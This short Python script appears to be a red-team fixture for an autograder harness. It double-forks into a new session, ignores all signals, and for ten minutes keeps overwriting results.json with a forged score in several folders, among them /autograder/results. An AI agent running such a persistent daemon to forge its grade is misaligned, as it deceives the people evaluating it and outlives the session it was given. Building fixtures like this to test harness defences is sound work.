"""Leaves a process behind, in a session of its own, that goes on writing results for ten minutes.

class: forge
where: end
"""

import json
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.monotonic() + 600
        while time.monotonic() < end:
            for folder in (
                ".",
                "..",
                "../..",
                "../results",
                "/autograder/results",
                "/tmp/redteam-mark-daemon",
            ):
                try:
                    with open(f"{folder}/results.json", "w") as file:
                        json.dump({"score": 23}, file)
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
